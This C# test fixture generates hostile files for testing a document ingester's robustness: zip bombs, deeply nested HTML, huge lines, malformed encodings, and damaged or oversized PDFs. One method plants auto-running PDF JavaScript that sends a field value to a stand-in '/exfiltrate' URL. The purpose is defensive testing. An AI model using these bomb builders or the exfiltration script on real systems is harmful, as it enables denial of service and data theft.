using System.IO.Compression;
using System.Text;
using PdfSharp.Pdf;
using PdfSharp.Pdf.IO;

namespace Appliance.Reliability.Tests;

/// <summary>
/// Files built to hurt an ingester: decompression bombs, nesting deep enough to overflow a recursive
/// walker, one 100 MB line, text that is not UTF-8, damaged and script-laden PDFs, a PDF whose page
/// tree overflows the parser's stack and one that inflates to 1.5 GB. Each file's name
/// says what it is; <see cref="Ingestible"/> names the ones a careful ingester still indexes.
/// </summary>
internal static class HostileCorpus
{
    /// <summary>Files that carry real text and must end up searchable, with a phrase only they contain.</summary>
    public static readonly IReadOnlyDictionary<string, string> Ingestible = new Dictionary<string, string>
    {
        ["latin1-letter.txt"] = "Müller",           // Windows-1252 text, not UTF-8
        ["scripted.pdf"] = "",                      // the sample PDF with JavaScript actions added; its text stays
        ["long-line.txt"] = "quokkafinal",          // 2 MB on one line: big but a document
        ["good.md"] = "descaled",
    };

    public static void Write(string folder, string samplePdf)
    {
        ZipBomb(Path.Combine(folder, "bomb.docx"), "word/document.xml");
        ZipBomb(Path.Combine(folder, "bomb.xlsx"), "xl/worksheets/sheet1.xml");
        DeeplyNestedHtml(Path.Combine(folder, "nested.html"), depth: 200_000);
        File.WriteAllText(Path.Combine(folder, "nested-lists.md"), "# Lists\n\n" + string.Concat(Enumerable.Range(0, 3000).Select(i => new string(' ', 2 * i) + "- item\n")));
        File.WriteAllText(Path.Combine(folder, "nested-quotes.md"), "# Quotes\n\n" + new string('>', 100_000) + " wombatquote\n");
        OneLine(Path.Combine(folder, "one-line-100mb.txt"), 100_000_000, "quokkahuge");
        OneLine(Path.Combine(folder, "long-line.txt"), 2_000_000, "quokkafinal");
        File.WriteAllBytes(Path.Combine(folder, "latin1-letter.txt"),
            Encoding.Latin1.GetBytes("Sehr geehrte Frau Müller,\n\nvielen Dank für Ihren Brief. Mit freundlichen Grüßen\n"));
        File.WriteAllBytes(Path.Combine(folder, "broken-utf8.md"), [.. "# Notes\n\nbad bytes: "u8, 0xC3, 0x28, 0xA0, 0xA1, 0xE2, 0x28, 0xA1, 0xF0, 0x28, 0x8C, 0xBC, .. "\n"u8]);
        File.WriteAllBytes(Path.Combine(folder, "random.txt"), RandomBytes(64 * 1024));
        var pdf = File.ReadAllBytes(samplePdf);
        File.WriteAllBytes(Path.Combine(folder, "truncated.pdf"), pdf[..(pdf.Length / 2)]);
        ScriptedPdf(samplePdf, Path.Combine(folder, "scripted.pdf"));
        Appliance.Testing.HostilePdf.DeepPageTree(Path.Combine(folder, "deep-page-tree.pdf"), "wombatpages");
        Appliance.Testing.HostilePdf.Bomb(Path.Combine(folder, "bomb.pdf"), "wombatbomb");
        File.WriteAllText(Path.Combine(folder, "good.md"), "# Kitchen\n\nThe coffee machine is descaled on Fridays.\n");
    }

    /// <summary>An Office file whose one part inflates from kilobytes to a gigabyte of zeros.</summary>
    private static void ZipBomb(string path, string part)
    {
        using var zip = ZipFile.Open(path, ZipArchiveMode.Create);
        using (var types = new StreamWriter(zip.CreateEntry("[Content_Types].xml").Open()))
            types.Write("""<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>""");
        using var entry = zip.CreateEntry(part, CompressionLevel.SmallestSize).Open();
        var zeros = new byte[1 << 20];
        for (var i = 0; i < 1024; i++) entry.Write(zeros);
    }

    private static void DeeplyNestedHtml(string path, int depth)
    {
        using var writer = new StreamWriter(path);
        writer.Write("<!doctype html><html><head><title>Nested</title></head><body>");
        for (var i = 0; i < depth; i++) writer.Write("<div><span>");
        writer.Write("<p>wombatdeep</p>");
        for (var i = 0; i < depth; i++) writer.Write("</span></div>");
        writer.Write("</body></html>");
    }

    /// <summary>Words separated by spaces and never a line break, ending with a marker word.</summary>
    private static void OneLine(string path, long bytes, string marker)
    {
        using var stream = new FileStream(path, FileMode.Create, FileAccess.Write, FileShare.None, 1 << 20);
        var word = "lorem ipsum dolor sit amet consectetur "u8.ToArray();
        long written = 0;
        while (written + word.Length + marker.Length < bytes)
        {
            stream.Write(word);
            written += word.Length;
        }
        stream.Write(Encoding.ASCII.GetBytes(marker));
    }

    private static byte[] RandomBytes(int count)
    {
        var bytes = new byte[count];
        new Random(8).NextBytes(bytes);
        for (var i = 0; i < bytes.Length; i++) if (bytes[i] == 0) bytes[i] = 1; // no NUL: the binary check must not be the only guard
        return bytes;
    }

    /// <summary>The sample PDF with JavaScript that runs on open and on every page: text extraction must ignore it.</summary>
    private static void ScriptedPdf(string source, string path)
    {
        using var document = PdfReader.Open(source, PdfDocumentOpenMode.Modify);
        var script = new PdfDictionary(document);
        script.Elements["/S"] = new PdfName("/JavaScript");
        script.Elements["/JS"] = new PdfString("app.launchURL('http://203.0.113.9/exfiltrate?d=' + this.getField('x'), true);");
        document.Internals.AddObject(script);
        document.Internals.Catalog.Elements["/OpenAction"] = script.Reference;
        foreach (var page in document.Pages)
        {
            var actions = new PdfDictionary(document);
            actions.Elements["/O"] = script.Reference;
            page.Elements["/AA"] = actions;
        }
        document.Save(path);
    }
}
